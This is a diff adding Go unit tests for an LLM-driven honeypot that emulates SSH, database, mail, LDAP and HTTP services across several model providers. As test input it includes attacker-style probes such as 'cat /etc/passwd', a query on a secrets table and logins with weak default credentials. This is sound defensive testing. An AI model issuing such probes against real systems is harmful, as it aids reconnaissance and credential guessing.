+	assert.Contains(t, prompt[2].Content, "Cisco IOS Software")
+	assert.Equal(t, "WALK 1.3.6.1.2.1.2.2", prompt[3].Content)
+}
+
+func TestSanitizeTerminal(t *testing.T) {
+	stripANSI := LLMHoneypot{Protocol: tracer.SSH, StripANSI: true}
+	sanitize := LLMHoneypot{Protocol: tracer.TCP, SanitizeControl: true}
+	both := LLMHoneypot{Protocol: tracer.SSH, StripANSI: true, SanitizeControl: true}
+	disabled := LLMHoneypot{Protocol: tracer.SSH}
+	http := LLMHoneypot{Protocol: tracer.HTTP, StripANSI: true, SanitizeControl: true}
+
+	colored := "\x1b[01;34mbin\x1b[0m  \x1b]0;root@host\x07etc\n"
+	malformed := "caf\xc3 \xff\xfeok\x00\x07\tdone\r\n"
+
+	assert.Equal(t, "bin  etc\n", stripANSI.postProcess(colored))
+	assert.Equal(t, "caf� �ok\x00\x07\tdone\r\n", stripANSI.postProcess(malformed))
+	assert.Equal(t, "caf� �ok\tdone\r\n", sanitize.postProcess(malformed))
+	assert.Equal(t, "[01;34mbin[0m  ]0;root@hostetc\n", sanitize.postProcess(colored))
+	assert.Equal(t, "bin  etc\n", both.postProcess(colored))
+	assert.Equal(t, colored, disabled.postProcess(colored))
+	assert.Equal(t, malformed, http.postProcess(malformed))
+}
+
+func TestBuildPromptPostgres(t *testing.T) {
+	//Given
+	honeypot := LLMHoneypot{
+		Histories: make([]Message, 0),
+		Protocol:  tracer.POSTGRES,
+	}
+
+	//When
+	prompt, err := honeypot.buildPrompt("SELECT * FROM secrets;")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, SystemPromptLen, len(prompt))
+	assert.Equal(t, systemPromptVirtualizePostgresServer, prompt[0].Content)
+	assert.Contains(t, prompt[0].Content, "SQLSTATE")
+	assert.Equal(t, "SELECT version();", prompt[1].Content)
+	assert.Contains(t, prompt[2].Content, "PostgreSQL 16.2")
+	assert.Contains(t, prompt[2].Content, "(1 row)")
+	assert.Equal(t, "SELECT * FROM secrets;", prompt[3].Content)
+}
+
+func TestBuildPromptSeedMessages(t *testing.T) {
+	//Given
+	honeypot := LLMHoneypot{
+		Histories: []Message{{Role: ASSISTANT.String(), Content: "ok"}},
+		Protocol:  tracer.SSH,
+		SeedMessages: []Message{
+			{Role: USER.String(), Content: "pwd"},
+			{Role: ASSISTANT.String(), Content: "/var/www/html"},
+			{Role: USER.String(), Content: "whoami"},
+			{Role: ASSISTANT.String(), Content: "www-data"},
+		},
+	}
+
+	//When
+	prompt, err := honeypot.buildPrompt("id")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, 7, len(prompt))
+	assert.Equal(t, systemPromptVirtualizeLinuxTerminal, prompt[0].Content)
+	assert.Equal(t, "/var/www/html", prompt[2].Content)
+	assert.Equal(t, "www-data", prompt[4].Content)
+	assert.Equal(t, "ok", prompt[5].Content)
+	assert.Equal(t, "id", prompt[6].Content)
+}
+
+func TestBuildPromptExported(t *testing.T) {
+	//Given
+	honeypot := NewLLMHoneypot(WithProtocol(tracer.HTTP), WithCustomPrompt("You are an nginx server"))
+	honeypot.AppendHistory(ASSISTANT, "<html></html>")
+
+	//When
+	prompt, err := honeypot.BuildPrompt("GET /admin")
+	internal, _ := honeypot.buildPrompt("GET /admin")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, internal, prompt)
+	assert.Equal(t, "You are an nginx server", prompt[0].Content)
+	assert.Equal(t, "<html></html>", prompt[3].Content)
+	assert.Equal(t, "GET /admin", prompt[4].Content)
+	assert.Equal(t, 0, httpmock.GetTotalCallCount())
+}
+
+func TestBuildExecuteModelOllamaKeepAliveAndOptions(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	var body map[string]interface{}
+	httpmock.RegisterResponder("POST", ollamaEndpoint,
+		func(req *http.Request) (*http.Response, error) {
+			json.NewDecoder(req.Body).Decode(&body)
+			return newJSONStringResponse(`{"message":{"role":"assistant","content":"prova.txt"}}`), nil
+		},
+	)
+
+	honeypot := InitLLMHoneypot(LLMHoneypot{
+		Protocol:      tracer.SSH,
+		Model:         "llama3",
+		Provider:      Ollama,
+		TopK:          20,
+		KeepAlive:     "10m",
+		OllamaOptions: map[string]interface{}{"num_ctx": 8192, "top_k": 5},
+	})
+	honeypot.client = client
+
+	//When
+	_, err := honeypot.ExecuteModel("ls")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, "10m", body["keep_alive"])
+	options := body["options"].(map[string]interface{})
+	assert.Equal(t, float64(8192), options["num_ctx"])
+	assert.Equal(t, float64(5), options["top_k"])
+}
+
+func TestBuildExecuteModelFallbackResponse(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	httpmock.RegisterResponder("POST", ollamaEndpoint,
+		httpmock.NewErrorResponder(fmt.Errorf("connection refused")))
+
+	sink := &mockInteractionSink{}
+	honeypot := InitLLMHoneypot(LLMHoneypot{
+		Protocol:         tracer.SSH,
+		Model:            "llama3",
+		Provider:         Ollama,
+		FallbackResponse: "bash: fork: retry: Resource temporarily unavailable",
+		Sink:             sink,
+	})
+	honeypot.client = client
+	withoutFallback := InitLLMHoneypot(LLMHoneypot{
+		Protocol: tracer.SSH,
+		Model:    "llama3",
+		Provider: Ollama,
+	})
+	withoutFallback.client = client
+
+	//When
+	str, err := honeypot.ExecuteModel("ls")
+	_, rawErr := withoutFallback.ExecuteModel("ls")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, "bash: fork: retry: Resource temporarily unavailable", str)
+	assert.ErrorContains(t, sink.interactions[0].Err, "connection refused")
+	assert.Equal(t, str, sink.interactions[0].Response)
+	assert.ErrorContains(t, rawErr, "connection refused")
+}
+
+func TestBuildExecuteModelDryRun(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	honeypot := InitLLMHoneypot(LLMHoneypot{
+		Protocol:  tracer.SSH,
+		Model:     "gpt-4o",
+		Provider:  OpenAI,
+		OpenAIKey: "sdjdnklfjndslkjanfk",
+		DryRun:    true,
+	})
+	honeypot.client = client
+	withFallback := InitLLMHoneypot(LLMHoneypot{
+		Protocol:         tracer.SSH,
+		Provider:         OpenAI,
+		DryRun:           true,
+		FallbackResponse: "bash: ls: Permission denied",
+	})
+	withFallback.client = client
+
+	//When
+	str, err := honeypot.ExecuteModel("ls")
+	fallback, fallbackErr := withFallback.ExecuteModel("ls")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, "[dry run] no model was called", str)
+	assert.Nil(t, fallbackErr)
+	assert.Equal(t, "bash: ls: Permission denied", fallback)
+	assert.Empty(t, honeypot.Histories)
+	assert.Equal(t, 0, httpmock.GetTotalCallCount())
+}
+
+func TestBuildExecuteModelDryRunDoesNotSummarize(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	var histories []Message
+	for i := 0; i < 6; i++ {
+		histories = append(histories, Message{Role: ASSISTANT.String(), Content: fmt.Sprintf("out %d", i)})
+	}
+	honeypot := InitLLMHoneypot(LLMHoneypot{
+		Histories:          histories,
+		Protocol:           tracer.SSH,
+		Model:              "llama3",
+		Provider:           Ollama,
+		DryRun:             true,
+		SummarizeHistory:   true,
+		SummarizeThreshold: 4,
+	})
+	honeypot.client = client
+
+	//When
+	str, err := honeypot.ExecuteModel("ls")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, "[dry run] no model was called", str)
+	assert.Equal(t, "", honeypot.HistorySummary)
+	assert.Len(t, honeypot.Histories, 6)
+	assert.Equal(t, 0, httpmock.GetTotalCallCount())
+}
+
+func TestMergeConsecutiveRoles(t *testing.T) {
+	//Given
+	msgs := []Message{
+		{Role: SYSTEM.String(), Content: "prompt"},
+		{Role: USER.String(), Content: "whoami"},
+		{Role: USER.String(), Content: "id"},
+		{Role: ASSISTANT.String(), ToolCalls: []ToolCall{{ID: "call_1"}}},
+		{Role: TOOL.String(), Content: "1", ToolCallID: "call_1"},
+		{Role: TOOL.String(), Content: "2", ToolCallID: "call_1"},
+		{Role: ASSISTANT.String(), Content: "root"},
+	}
+
+	//When
+	merged := mergeConsecutiveRoles(msgs)
+
+	//Then
+	assert.Equal(t, []Message{
+		{Role: SYSTEM.String(), Content: "prompt"},
+		{Role: USER.String(), Content: "whoami\n\nid"},
+		{Role: ASSISTANT.String(), ToolCalls: []ToolCall{{ID: "call_1"}}},
+		{Role: TOOL.String(), Content: "1", ToolCallID: "call_1"},
+		{Role: TOOL.String(), Content: "2", ToolCallID: "call_1"},
+		{Role: ASSISTANT.String(), Content: "root"},
+	}, merged)
+	assert.Equal(t, "whoami", msgs[1].Content)
+}
+
+func TestBuildExecuteModelGeminiAlternatesRoles(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	var body GeminiRequest
+	httpmock.RegisterResponder("POST", fmt.Sprintf(geminiEndpoint, "gemini-pro"),
+		func(req *http.Request) (*http.Response, error) {
+			json.NewDecoder(req.Body).Decode(&body)
+			return newJSONStringResponse(`{"candidates":[{"content":{"parts":[{"text":"prova.txt"}]}}]}`), nil
+		},
+	)
+
+	honeypot := InitLLMHoneypot(LLMHoneypot{
+		Protocol:     tracer.SSH,
+		Model:        "gemini-pro",
+		Provider:     Gemini,
+		GoogleAPIKey: "sdjdnklfjndslkjanfk",
+		Histories: []Message{
+			{Role: USER.String(), Content: "whoami"},
+			{Role: USER.String(), Content: "id"},
+		},
+	})
+	honeypot.client = client
+
+	//When
+	_, err := honeypot.ExecuteModel("ls")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, 3, len(body.Contents))
+	assert.Equal(t, "user", body.Contents[0].Role)
+	assert.Equal(t, "model", body.Contents[1].Role)
+	assert.Equal(t, "user", body.Contents[2].Role)
+	assert.Equal(t, "whoami\n\nid\n\nls", body.Contents[2].Parts[0].Text)
+}
+
+func TestBuildExecuteModelGeminiRandomCandidate(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	var body GeminiRequest
+	httpmock.RegisterResponder("POST", fmt.Sprintf(geminiEndpoint, "gemini-pro"),
+		func(req *http.Request) (*http.Response, error) {
+			json.NewDecoder(req.Body).Decode(&body)
+			return newJSONStringResponse(`{"candidates":[` +
+				`{"content":{"parts":[{"text":"blocked"}]},"finishReason":"SAFETY"},` +
+				`{"content":{"parts":[]}},` +
+				`{"content":{"parts":[{"text":"prova.txt"}]},"finishReason":"STOP"}]}`), nil
+		},
+	)
+
+	honeypot := InitLLMHoneypot(LLMHoneypot{
+		Protocol:           tracer.SSH,
+		Model:              "gemini-pro",
+		Provider:           Gemini,
+		GoogleAPIKey:       "sdjdnklfjndslkjanfk",
+		CandidateCount:     3,
+		CandidateSelection: CandidateRandom,
+	})
+	honeypot.client = client
+
+	//When
+	str, err := honeypot.ExecuteModel("ls")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, "prova.txt", str)
+	assert.Equal(t, 3, body.GenerationConfig.CandidateCount)
+}
+
+func TestBuildExecuteModelGeminiThinkingBudget(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	var body map[string]map[string]interface{}
+	httpmock.RegisterResponder("POST", fmt.Sprintf(geminiEndpoint, "gemini-2.5-flash"),
+		func(req *http.Request) (*http.Response, error) {
+			json.NewDecoder(req.Body).Decode(&body)
+			return newJSONStringResponse(`{"candidates":[{"content":{"parts":[{"text":"prova.txt"}]}}]}`), nil
+		},
+	)
+
+	disabled := 0
+	honeypot := InitLLMHoneypot(LLMHoneypot{
+		Protocol:       tracer.SSH,
+		Model:          "gemini-2.5-flash",
+		Provider:       Gemini,
+		GoogleAPIKey:   "sdjdnklfjndslkjanfk",
+		ThinkingBudget: &disabled,
+	})
+	honeypot.client = client
+
+	//When
+	str, err := honeypot.ExecuteModel("ls")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, "prova.txt", str)
+	assert.Equal(t, map[string]interface{}{"thinkingBudget": float64(0)}, body["generationConfig"]["thinkingConfig"])
+}
+
+func TestGeminiThinkingConfig(t *testing.T) {
+	budget := 0
+	dynamic := -1
+
+	assert.Nil(t, (&LLMHoneypot{Model: "gemini-2.5-flash"}).geminiThinkingConfig())
+	assert.Nil(t, (&LLMHoneypot{Model: "gemini-1.5-flash", ThinkingBudget: &dynamic}).geminiThinkingConfig())
+	assert.Nil(t, (&LLMHoneypot{Model: "gemini-2.0-flash", ThinkingBudget: &budget}).geminiThinkingConfig())
+	assert.Equal(t, &ThinkingConfig{ThinkingBudget: -1}, (&LLMHoneypot{Model: "gemini-2.5-flash", ThinkingBudget: &dynamic}).geminiThinkingConfig())
+	assert.Equal(t, &ThinkingConfig{ThinkingBudget: 128}, (&LLMHoneypot{Model: "gemini-2.5-pro", ThinkingBudget: &budget}).geminiThinkingConfig())
+}
+
+func TestBuildPromptIMAP(t *testing.T) {
+	//Given
+	honeypot := LLMHoneypot{
+		Histories: make([]Message, 0),
+		Protocol:  tracer.IMAP,
+	}
+
+	//When
+	prompt, err := honeypot.buildPrompt("A002 LOGIN admin hunter2")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, SystemPromptLen, len(prompt))
+	assert.Equal(t, systemPromptVirtualizeIMAPServer, prompt[0].Content)
+	assert.Equal(t, "A001 CAPABILITY", prompt[1].Content)
+	assert.Contains(t, prompt[2].Content, "* CAPABILITY IMAP4rev1")
+	assert.Contains(t, prompt[2].Content, "A001 OK")
+	assert.Equal(t, "A002 LOGIN admin hunter2", prompt[3].Content)
+}
+
+func TestBuildPromptPOP3(t *testing.T) {
+	//Given
+	honeypot := LLMHoneypot{
+		Histories: make([]Message, 0),
+		Protocol:  tracer.POP3,
+	}
+
+	//When
+	prompt, err := honeypot.buildPrompt("USER admin")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, SystemPromptLen, len(prompt))
+	assert.Equal(t, systemPromptVirtualizePOP3Server, prompt[0].Content)
+	assert.Equal(t, "CAPA", prompt[1].Content)
+	assert.True(t, strings.HasPrefix(prompt[2].Content, "+OK"))
+	assert.True(t, strings.HasSuffix(prompt[2].Content, "\r\n."))
+	assert.Equal(t, "USER admin", prompt[3].Content)
+	assert.Equal(t, "POP3", tracer.POP3.String())
+}
+
+func TestBuildPromptLDAP(t *testing.T) {
+	//Given
+	honeypot := LLMHoneypot{
+		Histories: make([]Message, 0),
+		Protocol:  tracer.LDAP,
+	}
+
+	//When
+	prompt, err := honeypot.buildPrompt("bind dn=cn=admin,dc=corp,dc=local password=admin")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, SystemPromptLen, len(prompt))
+	assert.Equal(t, systemPromptVirtualizeLDAPServer, prompt[0].Content)
+	assert.Contains(t, prompt[1].Content, "scope=base")
+	assert.Contains(t, prompt[2].Content, "namingContexts: dc=corp,dc=local")
+	assert.True(t, strings.HasSuffix(prompt[2].Content, "# result: 0 success"))
+	assert.Equal(t, "bind dn=cn=admin,dc=corp,dc=local password=admin", prompt[3].Content)
+	assert.Equal(t, "LDAP", tracer.LDAP.String())
+}
+
+func TestCloneIsIndependent(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	httpmock.RegisterResponder("POST", ollamaEndpoint,
+		func(req *http.Request) (*http.Response, error) {
+			return newJSONStringResponse(`{"message":{"role":"assistant","content":"prova.txt"}}`), nil
+		},
+	)
+
+	parent := InitLLMHoneypot(LLMHoneypot{
+		Protocol: tracer.SSH,
+		Model:    "llama3",
+		Provider: Ollama,
+		State:    NewSessionState(),
+		Scenario: NewScenario(),
+		Histories: []Message{
+			{Role: USER.String(), Content: "id"},
+			{Role: ASSISTANT.String(), Content: "uid=0(root) gid=0(root) groups=0(root)"},
+		},
+	})
+	parent.client = client
+	parent.State.Update("export TOKEN=abc", "")
+
+	//When
+	clone := parent.Clone()
+	_, err := clone.ExecuteModel("ls")
+	clone.State.Update("export TOKEN=xyz", "")
+	clone.Histories[0].Content = "whoami"
+
+	//Then
+	assert.Nil(t, err)
+	assert.Len(t, parent.Histories, 2)
+	assert.Len(t, clone.Histories, 3)
+	assert.Equal(t, "id", parent.Histories[0].Content)
+	assert.Equal(t, "abc", parent.State.Env["TOKEN"])
+	assert.Equal(t, "xyz", clone.State.Env["TOKEN"])
+	assert.Empty(t, parent.Scenario.Activity)
+	assert.Len(t, clone.Scenario.Activity, 1)
+	assert.NotSame(t, parent.historyLock(), clone.historyLock())
+}
+
+func TestBuildPromptWebSocket(t *testing.T) {
+	//Given
+	honeypot := LLMHoneypot{
+		Histories:   make([]Message, 0),
+		Protocol:    tracer.HTTP,
+		WebSocket:   true,
+		HTTPRequest: &HTTPRequestContext{Method: "GET", Path: "/ignored"},
+	}
+
+	//When
+	prompt, err := honeypot.buildPrompt(`{"type":"subscribe","channel":"alerts"}`)
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, SystemPromptLen+2, len(prompt))
+	assert.Equal(t, systemPromptVirtualizeWebSocketServer, prompt[0].Content)
+	assert.Contains(t, prompt[1].Content, "Upgrade: websocket")
+	assert.Contains(t, prompt[2].Content, "HTTP/1.1 101 Switching Protocols")
+	assert.Contains(t, prompt[2].Content, "Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=")
+	assert.Equal(t, `{"type":"subscribe","channel":"alerts"}`, prompt[5].Content)
+}
+
+func TestPostProcessWebSocketKeepsFramePayload(t *testing.T) {
+	//Given
+	honeypot := LLMHoneypot{Protocol: tracer.HTTP, WebSocket: true}
+
+	//When
+	output := honeypot.postProcess("Here is the server response:\nwelcome alice {\"unread\":3}")
+
+	//Then
+	assert.Equal(t, "welcome alice {\"unread\":3}", output)
+}
+
+func TestBuildExecuteModelOllamaNDJSONBody(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	httpmock.RegisterResponder("POST", ollamaEndpoint,
+		func(req *http.Request) (*http.Response, error) {
+			return newJSONStringResponse(`{"message":{"role":"assistant","content":"prova"},"done":false}` + "\n" +
+				`{"message":{"role":"assistant","content":".txt\nsecret"},"done":false}` + "\n" +
+				`{"message":{"role":"assistant","content":".key"},"done":false}` + "\n" +
+				`{"message":{"role":"assistant","content":""},"done":true,"prompt_eval_count":30,"eval_count":4}` + "\n"), nil
+		},
+	)
+
+	honeypot := InitLLMHoneypot(LLMHoneypot{
+		Protocol: tracer.SSH,
+		Model:    "llama3",
+		Provider: Ollama,
+	})
+	honeypot.client = client
+
+	//When
+	str, usage, err := honeypot.execute(context.Background(), "ls", &turn{})
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, "prova.txt\nsecret.key", str)
+	assert.Equal(t, Usage{PromptTokens: 30, CompletionTokens: 4, TotalTokens: 34}, usage)
+}
+
+func TestBuildExecuteModelOllamaTruncatedNDJSONBody(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	httpmock.RegisterResponder("POST", ollamaEndpoint,
+		func(req *http.Request) (*http.Response, error) {
+			return newJSONStringResponse(`{"message":{"role":"assistant","content":"prova"},"done":false}` + "\n" +
+				`{"message":{"role":"assistant","content":".txt"},"done":false}` + "\n"), nil
+		},
+	)
+
+	honeypot := InitLLMHoneypot(LLMHoneypot{
+		Protocol: tracer.SSH,
+		Model:    "llama3",
+		Provider: Ollama,
+	})
+	honeypot.client = client
+
+	//When
+	str, err := honeypot.ExecuteModel("ls")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, "prova.txt", str)
+}
+
+func TestBuildPromptGitSmartHTTP(t *testing.T) {
+	//Given
+	honeypot := LLMHoneypot{
+		Histories:    make([]Message, 0),
+		Protocol:     tracer.HTTP,
+		GitSmartHTTP: true,
+	}
+
+	//When
+	prompt, err := honeypot.buildPrompt("GET /acme/backend.git/info/refs?service=git-receive-pack HTTP/1.1")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, SystemPromptLen, len(prompt))
+	assert.Equal(t, systemPromptVirtualizeGitSmartHTTPServer, prompt[0].Content)
+	assert.Contains(t, prompt[1].Content, "info/refs?service=git-upload-pack")
+
+	// every pkt-line of the seed must carry its exact length
+	_, body, found := strings.Cut(prompt[2].Content, "\r\n\r\n")
+	assert.True(t, found)
+	var refs []string
+	for len(body) > 0 {
+		var size int
+		_, err := fmt.Sscanf(body[:4], "%04x", &size)
+		assert.Nil(t, err)
+		if size == 0 {
+			body = body[4:]
+			continue
+		}
+		refs = append(refs, body[4:size])
+		body = body[size:]
+	}
+	assert.Equal(t, "# service=git-upload-pack\n", refs[0])
+	assert.True(t, strings.HasPrefix(refs[1], "8d3f2a6c1e9b47f0a2c5d8e1b4f7a0c3d6e9f2a5 HEAD\x00"))
+	assert.Equal(t, "1b7e4c9a2f5d8b0e3a6c9f2d5b8e1a4c7f0d3b6e refs/heads/develop\n", refs[3])
+	assert.Len(t, refs, 5)
+}
+
+type mockTracer struct {
+	events []tracer.Event
+}
+
+func (m *mockTracer) TraceEvent(event tracer.Event) {
+	m.events = append(m.events, event)
+}
+
+func TestBuildExecuteModelTracesInteractions(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	calls := 0
+	httpmock.RegisterResponder("POST", ollamaEndpoint,
+		func(req *http.Request) (*http.Response, error) {
+			if calls++; calls > 1 {
+				return nil, fmt.Errorf("connection refused")
+			}
+			return newJSONStringResponse(`{"message":{"role":"assistant","content":"prova.txt"}}`), nil
+		},
+	)
+
+	tr := &mockTracer{}
+	honeypot := InitLLMHoneypot(LLMHoneypot{
+		Protocol:  tracer.SSH,
+		Model:     "llama3",
+		Provider:  Ollama,
+		Tracer:    tr,
+		SessionID: "session-1",
+		SourceIP:  "203.0.113.7",
+	})
+	honeypot.client = client
+
+	//When
+	_, err := honeypot.ExecuteModel("ls")
+	assert.Nil(t, err)
+	_, err = honeypot.ExecuteModel("id")
+
+	//Then
+	assert.NotNil(t, err)
+	assert.Len(t, tr.events, 2)
+	assert.Equal(t, "LLM interaction", tr.events[0].Msg)
+	assert.Equal(t, "SSH", tr.events[0].Protocol)
+	assert.Equal(t, "LLMInteraction", tr.events[0].Status)
+	assert.Equal(t, "session-1", tr.events[0].ID)
+	assert.Equal(t, "203.0.113.7", tr.events[0].SourceIp)
+	assert.Equal(t, "ls", tr.events[0].Command)
+	assert.Equal(t, "prova.txt", tr.events[0].CommandOutput)
+	assert.Equal(t, "ollama", tr.events[0].LLMProvider)
+	assert.Equal(t, "llama3", tr.events[0].LLMModel)
+	assert.Equal(t, "", tr.events[0].Error)
+	assert.Equal(t, "LLM interaction failed", tr.events[1].Msg)
+	assert.Equal(t, "id", tr.events[1].Command)
+	assert.Contains(t, tr.events[1].Error, "connection refused")
+}
+
+func TestBuildPromptSeedAsContext(t *testing.T) {
+	//Given
+	honeypot := LLMHoneypot{
+		Histories:     make([]Message, 0),
+		Protocol:      tracer.SSH,
+		SeedAsContext: true,
+	}
+
+	//When
+	prompt, err := honeypot.buildPrompt("ls")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, 2, len(prompt))
+	assert.Equal(t, SYSTEM.String(), prompt[0].Role)
+	assert.True(t, strings.HasPrefix(prompt[0].Content, systemPromptVirtualizeLinuxTerminal))
+	assert.True(t, strings.HasSuffix(prompt[0].Content, "\n\nExample input:\npwd\nExample output:\n/home/user"))
+	assert.Equal(t, Message{Role: USER.String(), Content: "ls"}, prompt[1])
+}
+
+func TestCallersAgainstFakeProviders(t *testing.T) {
+	tests := []struct {
+		name     string
+		provider LLMProvider
+		model    string
+		server   func(testing.TB, ...llmtest.Response) *llmtest.Server
+		response llmtest.Response
+		output   string
+		err      string
+	}{
+		{"openai success", OpenAI, "gpt-4o", llmtest.NewOpenAIServer, llmtest.OpenAIReply("prova.txt"), "prova.txt", ""},
+		{"openai error", OpenAI, "gpt-4o", llmtest.NewOpenAIServer, llmtest.OpenAIError(500, "overloaded"), "", "chat completions request failed: 500 Internal Server Error – {\"error\":{\"message\":\"overloaded\",\"type\":\"invalid_request_error\"}}"},
+		{"openai empty choices", OpenAI, "gpt-4o", llmtest.NewOpenAIServer, llmtest.OpenAIEmptyChoices, "", "no choices"},
+		{"openai malformed", OpenAI, "gpt-4o", llmtest.NewOpenAIServer, llmtest.Malformed, "", "unexpected end of JSON input"},
+		{"ollama success", Ollama, "llama3", llmtest.NewOllamaServer, llmtest.OllamaReply("prova.txt"), "prova.txt", ""},
+		{"ollama error", Ollama, "llama3", llmtest.NewOllamaServer, llmtest.OllamaError(500, "out of memory"), "", "ollama request failed: 500 Internal Server Error – {\"error\":\"out of memory\"}"},
+		{"ollama malformed", Ollama, "llama3", llmtest.NewOllamaServer, llmtest.Malformed, "", "decoding Ollama response: decoding stream event: unexpected end of JSON input"},
+		{"gemini success", Gemini, "gemini-pro", llmtest.NewGeminiServer, llmtest.GeminiReply("prova.txt"), "prova.txt", ""},
+		{"gemini error", Gemini, "gemini-pro", llmtest.NewGeminiServer, llmtest.GeminiError(400, "API key not valid"), "", "gemini API request failed: 400 Bad Request – {\"error\":{\"code\":400,\"message\":\"API key not valid\",\"status\":\"INVALID_ARGUMENT\"}}"},
+		{"gemini empty candidates", Gemini, "gemini-pro", llmtest.NewGeminiServer, llmtest.GeminiEmptyCandidates, "", "no content in Gemini response"},
+		{"gemini malformed", Gemini, "gemini-pro", llmtest.NewGeminiServer, llmtest.Malformed, "", "unexpected end of JSON input"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			//Given
+			server := tt.server(t, tt.response)
+			honeypot := InitLLMHoneypot(LLMHoneypot{
+				Protocol:     tracer.SSH,
+				Model:        tt.model,
+				Provider:     tt.provider,
+				Host:         server.Host(),
+				OpenAIKey:    "sdjdnklfjndslkjanfk",
+				GoogleAPIKey: "sdjdnklfjndslkjanfk",
+			})
+
+			//When
+			str, err := honeypot.ExecuteModel("ls")
+
+			//Then
+			if tt.err == "" {
+				assert.Nil(t, err)
+			} else {
+				assert.EqualError(t, err, tt.err)
+			}
+			assert.Equal(t, tt.output, str)
+			assert.Len(t, server.Requests(), 1)
+		})
+	}
+}
+
+func TestGeminiAutoContinueOnMaxTokens(t *testing.T) {
+	//Given
+	truncated := func(text string) llmtest.Response {
+		return llmtest.Response{Status: http.StatusOK, Body: `{"candidates":[{"content":{"role":"model","parts":[{"text":"` + text + `"}]},"finishReason":"MAX_TOKENS"}],"usageMetadata":{"promptTokenCount":10,"candidatesTokenCount":5,"totalTokenCount":15}}`}
+	}
+	server := llmtest.NewGeminiServer(t, truncated(`root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:dae`), llmtest.GeminiReply("mon:/usr/sbin:/usr/sbin/nologin"))
+	honeypot := InitLLMHoneypot(LLMHoneypot{
+		Protocol:     tracer.SSH,
+		Model:        "gemini-pro",
+		Provider:     Gemini,
+		Host:         server.Host(),
+		GoogleAPIKey: "sdjdnklfjndslkjanfk",
+		AutoContinue: true,
+	})
+
+	//When
+	str, err := honeypot.ExecuteModel("cat /etc/passwd")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin", str)
+	requests := server.Requests()
+	assert.Len(t, requests, 2)
+	var followUp GeminiRequest
+	json.Unmarshal(requests[1], &followUp)
+	contents := followUp.Contents
+	assert.Equal(t, "model", contents[len(contents)-2].Role)
+	assert.Equal(t, continuationPrompt, contents[len(contents)-1].Parts[0].Text)
+}
+
+func TestGeminiMaxTokensWithoutAutoContinue(t *testing.T) {
+	//Given
+	server := llmtest.NewGeminiServer(t, llmtest.Response{Status: http.StatusOK, Body: `{"candidates":[{"content":{"parts":[{"text":"root:x:0:0:ro"}]},"finishReason":"MAX_TOKENS"}]}`})
+	honeypot := InitLLMHoneypot(LLMHoneypot{
+		Protocol:     tracer.SSH,
+		Model:        "gemini-pro",
+		Provider:     Gemini,
+		Host:         server.Host(),
+		GoogleAPIKey: "sdjdnklfjndslkjanfk",
+	})
+
+	//When
+	str, err := honeypot.ExecuteModel("cat /etc/passwd")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, "root:x:0:0:ro", str)
+	assert.Len(t, server.Requests(), 1)
+}